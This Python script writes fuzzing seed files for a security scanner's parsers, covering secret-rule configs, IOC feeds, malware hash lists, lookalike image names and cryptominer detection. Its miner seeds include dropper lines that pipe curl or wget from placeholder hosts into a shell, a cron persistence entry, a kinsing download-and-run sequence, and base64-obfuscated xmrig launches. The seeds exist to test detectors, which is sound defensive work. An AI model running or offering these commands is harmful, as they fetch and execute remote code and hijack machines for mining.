#!/usr/bin/env python3
"""make_seeds_text.py - (re)write the seed corpora of the text-parser harnesses
(secret_rules, secret_confirm, matcher, ioc, hashdb, name, miner) under fuzz/corpus/.
Harnesses that take knobs from the first bytes get them here as a prefix (see each
fuzz_<name>.c). Seeds are small and committed; make_seeds.py does the image parsers."""
import base64
import os
import struct

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)


def put(name, seed, data):
    d = os.path.join(HERE, 'corpus', name)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, seed), 'wb') as f:
        f.write(data if isinstance(data, bytes) else data.encode())


# Test-looking secrets: valid shapes, not live credentials (the AWS pair is AWS's own
# documentation example).
AWS_ID = 'AKIAIOSFODNN7EXAMPLE'
AWS_SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'
GH = 'ghp_' + 'x7Qa9Lm2Vt5Rb8Kd1Nf4Hj6Pw3Zc0Ys7Ue2Io'
SLACK = 'xoxb-' + '1234567890-1234567890123-' + 'AbCdEfGhIjKlMnOpQrStUvWx'
PEM = ('-----BEGIN RSA PRIVATE KEY-----\n' + 'MIIEpAIBAAKCAQEA3Tz2mr7SZiAMfQyuvBjM2dQe8QXk9ZK7nXrK1fGk0P+Gq9yF\n' * 4 +
       '-----END RSA PRIVATE KEY-----\n')
XMR = ('44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A')

TEXTS = {
    'env': 'AWS_ACCESS_KEY_ID=%s\nAWS_SECRET_ACCESS_KEY=%s\nGITHUB_TOKEN=%s\n' % (AWS_ID, AWS_SECRET, GH),
    'pem': PEM,
    'json': '{"slack": "%s", "password": "hunter2hunter2", "api_key": "%s"}\n' % (SLACK, 'Zx81kQ0pL5vR2tY7uW3eI9oA'),
    'placeholder': 'password: changeme\napi_key: <your-key-here>\ntoken: xxxxxxxxxxxxxxxxxxxx\n',
    'npmrc': '//registry.npmjs.org/:_authToken=npm_' + 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8' + '\n',
    'docker': '{"auths":{"https://index.docker.io/v1/":{"auth":"%s"}}}' %
              base64.b64encode(b'user:s3cr3tpassw0rd').decode(),
}

SECRET_CONFIGS = {
    'trivy': '''rules:
  - id: my-token
    category: Custom
    title: My token
    severity: HIGH
    regex: 'my_token_(?P<secret>[a-f0-9]{32})'
    secret-group-name: secret
    keywords: [my_token_]
    entropy: 2.5
    allow-rules:
      - id: test-tokens
        description: tests
        regex: '0{32}'
        path: '.*/tests?/.*'
disable-rules:
  - slack-access-token
enable-builtin-rules:
  - aws-access-token
  - private-key
allow-rules:
  - id: skip-examples
    path: '.*\\.example$'
custom-allow-rules:
  - id: local
    regex: 'localhost'
disable-allow-rules: [placeholders, docs-paths]
''',
    'fields': '''rules:
  - id: wide
    category: General
    title: "wide window"
    severity: critical
    regex: '(?i)key\\s*[:=]\\s*(\\S{8,})'
    prefilter: '(?i)key\\s*[:=]'
    window: 32768
    window-before: 16
    identifier-prefix: 8
    binary: yes
    no-placeholder-check: true
    path: '\\.(cfg|ini)$'
  - id: path-only
    category: Files
    title: "a key file"
    severity: LOW
    path: '(^|/)id_(rsa|ed25519)$'
  - id: wide
    title: replaced by id
    regex: 'x'
''',
    'flow': '{rules: [{id: a, regex: "a+b", keywords: [ab]}], disable-rules: [a, b, c]}',
    'anchors': 'base: &b {id: x, regex: "x{2,}", severity: MEDIUM}\nrules: [*b, *b]\n',
    'bad-regex': 'rules:\n  - id: broken\n    regex: "(unclosed"\n',
    'bad-group': 'rules:\n  - id: g\n    regex: "(?P<a>x)"\n    secret-group-name: nothere\n',
    'empty': '',
    'scalar': 'just a string\n',
}

IOC_FEEDS = {
    'maltrail': '# Copyright (c) Maltrail developers\n# Reference: x\n\npool.minexmr.com\n'
                '45.32.233.191:3333\n/(null).arm7\nhttp://1.2.3.4/x.sh\n'
                'compromised.example.org/wp-content/x.php\nEvil.Example.NET # comment\n'
                '10.9.8.7:4444\telf_mirai\nkinsing.example.com\th2miner\n*.wild.example.com\n',
    'hosts': '# blocklist\n0.0.0.0 miner.example.com tracker.example.net\n127.0.0.1 localhost\n'
             '::1 ip6-localhost\n0.0.0.0\tads.example.org # tab\n',
    'csv': 'indicator,category,family\n"c2.example.com",c2,botA\n203.0.113.9,mining pool,x\n'
           'badproxy.example,anonymizer,\n"quoted ""x"".example.com",malware,"fam, with comma"\n',
    'csv-other': 'type,value,info\ndomain,evil.example.io,zz\nip,198.51.100.7,yy\n',
    'ipv6': '2001:db8::dead:beef\n[2001:db8::1]:8080\n::\n::1\nfe80::1%eth0\n',
    'dyn': 'duckdns.org\nath.cx\nno-ip.biz\n',
    'multi': 'a.example.com\n\nLCFEED\nindicator,category\nb.example.com,c2\n\nLCFEED\n0.0.0.0 c.example.com\n',
}

HASH_LISTS = {
    'hsb': '# comment\n275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f:68:Eicar-Test-Signature\n'
           '44d88612fea8a8f36de82e1278abb02f:68:Eicar-MD5:73\n'
           'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa:*:AnySize\n'
           '3395856ce81f2b7382dee72602f798b642f14140:68:Eicar-SHA1\n',
    'sha256sum': 'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb  /tmp/x\n'
                 'CCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCC\n'
                 'dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd *binary\n'
                 'eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee,csvname\n',
    'bad': 'zzzz:1:x\n',
    'bigsize': '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f:9223372036854775807:big\n'
               '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f:68:dup\n',
}

NAMES = ['ubuntu', 'ubunto:22.04', 'docker.io/library/nginx@sha256:' + '0' * 64, 'ngimx',
         'bitnarni/redis', 'docker.i0/library/alpine', 'ghcr.io/user/app:v1',
         'gcr.io.evil.com/distroless/base', 'library/drupa1\nlibrary\ndocker.io',
         'localhost:5000/x/y/z:tag', 'UPPER/Case', 'xn--dcker-7ua.io/library/ubuntu',
         'dockerhub.com/library/postgres', 'docker://quay.io/prometheus/node-exporter',
         'mcr.microsoft.corn/dotnet/runtime\nmcr.microsoft.corn', 'a' * 300, '']

MINER_TEXTS = {
    'xmrig-cmd': './xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u %s -p x --donate-level 1 -a rx/0\n' % XMR,
    'xmrig-json': '{\n "donate-level": 1,\n "randomx": {"1gb-pages": true},\n "pools": [{"url": "pool.example.com:443", '
                  '"user": "%s", "pass": "x", "tls": true, "rig-id": "r"}]\n}\n' % XMR,
    'stak': '"pool_list" :\n[ {"pool_address" : "p:3333", "wallet_address" : "w", "pool_password" : "x"} ]\n',
    'ini': '[miner]\nurl = stratum+tcp://p:3333\nuser = w\npass = x\nalgo = rx/0\nrig-id = a\n',
    'yaml': 'pools:\n  - url: stratum+ssl://xmr.example.net:443\n    user: w\n    coin: monero\n    keepalive: true\n',
    'b64': 'echo %s | base64 -d | sh\n' % base64.b64encode(
        b'./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4abc --donate-level 1').decode(),
    'b64b64': 'eval $(echo %s | base64 -d | base64 -d)\n' % base64.b64encode(base64.b64encode(
        b'./xmrig -o stratum+tcp://p.ex:3333')).decode(),
    'dropper': '*/5 * * * * root curl -fsSL http://x.example/a.sh | sh\nwget -q -O - http://1.2.3.4/x | sudo /bin/bash -s\n'
               'bash -c "$(curl -fsSL https://x/install.sh)"\ncd /tmp\nwget http://x/kinsing\nchmod +x kinsing\n./kinsing\n',
    'urlsafe': 'python -c "import base64;exec(base64.urlsafe_b64decode(\'%s\'))"\n' %
               base64.urlsafe_b64encode(b'import os;os.system("minerd -o stratum+tcp://a.b:1 -u x")').decode(),
}


def main():
    for k, v in SECRET_CONFIGS.items():
        put('secret_rules', k, b'\x01' + v.encode())
    put('secret_rules', 'builtin-on-builtin',
        b'\x00' + open(os.path.join(ROOT, 'data', 'secrets', 'rules.yaml'), 'rb').read()[:16384])
    for i, (k, v) in enumerate(TEXTS.items()):
        # u16 rule index (0xffff: a rule past the end, then taken modulo), flags
        put('secret_confirm', k, struct.pack('>HB', i * 7, i * 37 & 0xff) + v.encode())
        put('matcher', k, struct.pack('>BH', i, i * 977) + v.encode())
    put('matcher', 'binary', b'\x02\x00\x10' + b'\x00\x01ELF' + TEXTS['env'].encode() * 3)
    put('matcher', 'long', b'\x01\x12\x34' + ('x' * 5000 + TEXTS['env'] + 'y' * 70000 + PEM).encode())
    for i, (k, v) in enumerate(IOC_FEEDS.items()):
        put('ioc', k, bytes([i * 9 & 0xff]) + v.encode())
    for i, (k, v) in enumerate(HASH_LISTS.items()):
        put('hashdb', k, bytes([i * 0x45 & 0xff]) + v.encode())
    for i, n in enumerate(NAMES):
        put('name', 'name%02d' % i, n)
    for i, (k, v) in enumerate(MINER_TEXTS.items()):
        put('miner', k, bytes([(i * 29 + 40) & 0xff]) + v.encode())


if __name__ == '__main__':
    main()
